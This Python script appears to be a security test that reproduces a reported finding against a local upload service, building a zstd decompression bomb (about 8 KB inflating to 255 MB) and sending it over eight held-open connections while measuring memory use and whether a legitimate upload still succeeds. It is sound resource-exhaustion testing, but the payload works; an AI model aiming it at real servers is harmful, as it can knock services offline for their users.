#!/usr/bin/env python3
"""Issue 11, finding 1: can a few KB of zstd per connection fill the spool or the memory of `serve`?

Eight connections each send an ~8 KB zstd body that inflates to 255 MB of zeros (a multipart part of one
file) and keep their request open; then a legitimate upload arrives. Prints the RSS of `serve` before and
with the eight bodies, what the eight got, and the legitimate upload's status.

Usage: zstd_amplification.py PORT PID   (run.sh starts serve and calls it)
"""
import json
import socket
import subprocess
import sys
import time
import os

port, pid = int(sys.argv[1]), int(sys.argv[2])
here = os.path.dirname(os.path.abspath(__file__))
sample = os.path.join(here, "..", "..", "bench-data", "sample", "files", "0012-noor-de-vries.txt")


def rss_mib():
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS"):
                return int(line.split()[1]) // 1024
    return -1


def bomb():
    head = (b"------X\r\nContent-Disposition: form-data; name=\"files\"; filename=\"zeros.txt\"\r\n\r\n")
    raw = head + b"\0" * (255 << 20)
    return subprocess.run(["zstd", "-q", "-19", "-c"], input=raw, capture_output=True, check=True).stdout


body = bomb()
before = rss_mib()
connections = []
for _ in range(8):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"POST /api/v1/bulk-parse-resumes HTTP/1.1\r\nHost: x\r\n"
              b"Content-Type: multipart/form-data; boundary=----X\r\nContent-Encoding: zstd\r\n"
              b"Content-Length: %d\r\n\r\n" % (len(body) + 1000) + body)
    connections.append(s)
time.sleep(3)
during = rss_mib()
answers = []
for s in connections:
    s.settimeout(2)
    try:
        answers.append(s.recv(200).split(b"\r\n")[0].decode())
    except OSError as error:
        answers.append(f"no answer ({error})")
legit = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-F", f"files=@{sample}",
                        f"http://127.0.0.1:{port}/api/v1/bulk-parse-resumes"], capture_output=True, text=True).stdout
print(json.dumps({"compressed_bytes": len(body), "rss_before_mib": before, "rss_with_8_bodies_mib": during,
                  "growth_mib": during - before, "answers": answers, "legitimate_upload": legit}, indent=1))
